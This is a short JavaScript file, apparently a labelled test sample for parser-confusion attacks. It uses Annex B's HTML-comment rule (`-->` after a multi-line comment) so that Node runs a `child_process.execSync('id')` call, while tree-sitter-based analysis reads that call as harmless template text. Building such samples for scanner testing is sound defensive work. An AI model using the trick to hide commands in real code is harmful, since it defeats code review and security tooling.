// class: parser-confusion | technique: `-->` after a multi-line comment that spans a line break is an HTML close comment (Annex B) although not first on its line; tree-sitter reads `-- >` and a template | effect: runs `id`
let pending = 3;
pending /* drain the queue
*/ --> `
console.log(require('child_process').execSync('id').toString())
// `
console.log('pending', pending);
